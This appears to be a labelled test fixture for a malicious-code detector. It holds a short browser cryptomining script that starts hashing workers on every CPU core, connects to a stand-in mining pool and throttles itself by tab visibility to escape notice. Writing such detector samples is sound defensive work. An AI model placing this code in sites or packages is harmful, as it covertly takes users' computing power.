// expect: category=cryptomining min=95 context=plugin,package
// why: hashing workers are throttled by tab visibility and report hashes per second to a pool.
const threads = [];
let throttle = 0.3;

function spawnThreads(n) {
  for (let i = 0; i < n; i++) {
    const w = new Worker('/assets/hash-worker.js');
    w.onmessage = (e) => (window.hashesPerSecond = e.data.hps);
    w.postMessage({ cmd: 'start', throttle, pool: 'wss://pool.example/ws' });
    threads.push(w);
  }
}

document.addEventListener('visibilitychange', () => {
  throttle = document.hidden ? 0 : 0.3;
  threads.forEach((w) => w.postMessage({ cmd: 'throttle', throttle }));
});

spawnThreads(navigator.hardwareConcurrency || 2);
